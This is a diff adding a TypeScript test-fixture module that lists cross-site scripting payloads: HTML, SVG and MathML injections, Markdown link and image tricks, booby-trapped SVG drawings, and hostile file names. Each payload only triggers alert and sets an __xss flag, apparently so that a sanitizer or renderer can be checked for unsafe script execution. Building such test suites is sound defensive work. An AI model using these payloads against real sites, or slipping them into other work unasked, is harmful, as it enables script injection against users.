@@ -1,0 +1,93 @@
+const RUN = "window.__xss=1;top.__xss=1;alert('xss')";
+
+/** Ways to make a page run what it should only show; each would call `alert` and set `__xss`. */
+export const PAYLOADS: readonly string[] = [
+  `<script>${RUN}</script>`,
+  `<SCRIPT SRC=data:text/javascript,${RUN}></SCRIPT>`,
+  `<img src=x onerror="${RUN}">`,
+  `<img src=x:x onerror=alert(1)//`,
+  `<image/src/onerror=${RUN}>`,
+  `<svg onload="${RUN}"></svg>`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
+  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
+  `<svg><a xlink:href="javascript:${RUN}"><text y=20>click</text></a></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/></svg>`,
+  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
+  `<math href="javascript:${RUN}">click</math>`,
+  `<body onload="${RUN}">`,
+  `<body onpageshow="${RUN}">`,
+  `<iframe src="javascript:${RUN}"></iframe>`,
+  `<iframe srcdoc="<script>parent.__xss=1;${RUN}</script>"></iframe>`,
+  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
+  `<embed src="data:text/html,<script>${RUN}</script>">`,
+  `<a href="javascript:${RUN}">click</a>`,
+  `<a href=" &#106;avascript:${RUN}">click</a>`,
+  `<a href="java\tscript:${RUN}">click</a>`,
+  `<form action="javascript:${RUN}"><button autofocus>go</button></form>`,
+  `<button formaction="javascript:${RUN}">go</button>`,
+  `<input onfocus="${RUN}" autofocus>`,
+  `<select onfocus="${RUN}" autofocus></select>`,
+  `<video><source onerror="${RUN}"></video>`,
+  `<video src=x onerror="${RUN}"></video>`,
+  `<audio src=x onerror="${RUN}"></audio>`,
+  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
+  `<marquee onstart="${RUN}">x</marquee>`,
+  `<div style="animation:x" onanimationstart="${RUN}">x</div>`,
+  `<style>@import "javascript:${RUN}";</style>`,
+  `<link rel=stylesheet href="javascript:${RUN}">`,
+  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
+  `<meta http-equiv="refresh" content="0;url=data:text/html,<script>${RUN}</script>">`,
+  `<base href="javascript:${RUN}//">`,
+  `<template><script>${RUN}</script></template>`,
+  `<noscript><p title="</noscript><img src=x onerror='${RUN}'>">`,
+  `<p id="root"><img name="body"><form id="location"></form>`,
+  `<![CDATA[<img src=x onerror="${RUN}">]]>`,
+  `<!--><img src=x onerror="${RUN}">-->`,
+  `"><img src=x onerror="${RUN}">`,
+  `' onmouseover='${RUN}' x='`,
+  `{{constructor.constructor("${RUN}")()}}`,
+];
+
+/** The same in the ways of Markdown itself. */
+export const MARKDOWN_PAYLOADS: readonly string[] = [
+  `[click](javascript:${RUN})`,
+  `[click](<javascript:${RUN}>)`,
+  '[click](JaVaScRiPt:alert(1))',
+  '[click](&#x6A;avascript:alert(1))',
+  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
+  '[click](vbscript:alert(1))',
+  '[click](  javascript:alert(1))',
+  '[click](//example.org/%22onmouseover=%22alert(1))',
+  '![x](javascript:alert(1))',
+  '![x" onerror="alert(1)](https://example.org/"onerror="alert`1`)',
+  '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
+  '[x]: javascript:alert(1)\n\n[x]',
+  '<javascript:alert(1)>',
+  '```"><img src=x onerror=alert(1)>\ncode\n```',
+  `# <img src=x onerror="${RUN}">`,
+  `| <img src=x onerror="${RUN}"> |\n|:-:|\n| <script>${RUN}</script> |`,
+];
+
+/** Drawings that try the same. */
+export const DRAWINGS: readonly string[] = [
+  `<script>${RUN}</script>`,
+  `<script href="data:text/javascript,${RUN}"/>`,
+  `<image href="x" onerror="${RUN}"/>`,
+  `<animate onbegin="${RUN}" attributeName="x" dur="1s"/>`,
+  `<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script>${RUN}&lt;/script>"/></foreignObject>`,
+  `<set onbegin="${RUN}" attributeName="x"/>`,
+].map((inside) => `<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" onload="${RUN}">${inside}</svg>`);
+
+/** Names that are shown in rows, titles, questions and addresses. */
+export const NAMES: readonly string[] = [
+  '<img src=x onerror=alert(1)>.md',
+  '"><svg onload=alert(1)>.txt',
+  "' onmouseover='alert(1)' x='.md",
+  'javascript:alert(1).md',
+  '&lt;script&gt;alert(1)&lt;.md',
+  '{{constructor.constructor(alert(1))()}}.md',
+  '%3Cscript%3Ealert(1)%3C.md',
+  'a\u202Egpj.md',
+];
